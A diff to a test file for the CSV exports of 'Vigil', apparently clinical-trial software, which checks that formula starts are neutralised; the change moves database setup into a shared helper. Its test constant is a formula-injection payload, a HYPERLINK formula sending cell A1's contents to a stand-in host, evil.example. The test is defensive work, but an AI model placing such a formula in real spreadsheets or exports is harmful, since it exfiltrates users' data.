@@ -1,6 +1,6 @@
 // A user's text reaches spreadsheets as text: every CSV Vigil writes (SDTM exports, the audit
 // trail, the auditor bundle) neutralises formula starts, and keeps machine values exact.
-import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { ephemeralSigningKey } from '../../src/lib/server/audit/signing-key';
 import { recordAdverseEvent } from '../../src/lib/server/services/capture/adverse-events';
 import {
@@ -11,7 +11,7 @@ import { exportDomainCsv } from '../../src/lib/server/services/audit/exports';
 import { auditTrailCsv } from '../../src/lib/server/services/audit/audit-export';
 import { createAuditorBundle } from '../../src/lib/server/services/audit/bundle';
 import { parseCsv } from '../helpers/csv';
-import { actorFor, freshDb, type TestDb, runningSession } from '../helpers/db';
+import { actorFor, type TestDb, runningSession, freshDbEach } from '../helpers/db';
 import { noCriteria } from '../helpers/fixtures';
 import { mkdtempSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -19,12 +19,7 @@ import { join } from 'node:path';
 import { entry, readEntries, saveStream } from '../helpers/bundle-files';
 
 let t: TestDb;
-beforeEach(async () => {
-	t = await freshDb();
-});
-afterEach(async () => {
-	await t.db.destroy();
-});
+freshDbEach((db) => (t = db));
 
 const now = () => new Date('2026-11-20T15:00:00Z');
 const TERM = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
